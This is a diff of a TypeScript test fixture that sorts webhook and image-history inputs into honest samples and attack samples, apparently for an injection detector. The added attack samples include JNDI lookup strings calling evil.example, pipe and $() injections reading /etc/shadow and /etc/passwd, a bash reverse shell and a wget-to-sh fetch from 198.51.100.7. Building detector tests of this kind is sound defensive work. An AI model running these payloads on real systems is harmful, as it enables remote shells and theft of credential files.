@@ -49,8 +49,13 @@ const KINDS: HonestKinds = {
       sent({ action: 'published', security_advisory: { summary: 'XSS', description: QUOTED } }),
       sent({ alert: { security_advisory: { description: QUOTED } } }),
       sent({ repository_advisory: { description: QUOTED } }),
+      filled({ payload: JSON.stringify({ alert: { security_advisory: { description: QUOTED } } }) }),
+      filled({ payload: JSON.stringify({ commits: [{ message: `Fix ${QUOTED}` }] }) }),
     ],
     attacks: [
+      filled({ payload: JSON.stringify({ security_advisory: { name: QUOTED } }) }),
+      filled({ payload: JSON.stringify({ commits: [{ message: '${jndi:ldap://evil.example/a}' }] }) }),
+      filled({ message: QUOTED }),
       sent({ security_advisory: { description: '${jndi:ldap://evil.example/a}' } }),
       sent({ advisory: { name: '`${eval(name)}`' } }),
       filled({ 'security_advisory.description': '`${eval(name)}`' }),
@@ -141,6 +146,20 @@ const KINDS: HonestKinds = {
       filled({ description: "IO.read('n/../x')" }),
       filled({ description: 'IO.read("/etc/passwd")' }),
       filled({ description: 'CreateObject("wscript.shell")' }),
+    ],
+  },
+  'choices of a switch, and how an image was built': {
+    honest: [
+      filled({ title: '--compress=no|xz|gz|lzo' }),
+      filled({ title: 'none|gzip|bzip2' }),
+      sent({ history: [{ created_by: '/bin/sh -c wget "$base/$(printf \'%03d\' 5)"; rm -rf /tmp/x' }] }),
+    ],
+    attacks: [
+      filled({ title: 'x|xz -d /etc/shadow' }),
+      filled({ title: 'x|gzip -c /etc/passwd' }),
+      filled({ title: '$(gzip -c /etc/passwd)' }),
+      sent({ history: [{ created_by: 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1' }] }),
+      sent({ history: [{ name: 'x; wget http://198.51.100.7/a | sh' }] }),
     ],
   },
 }
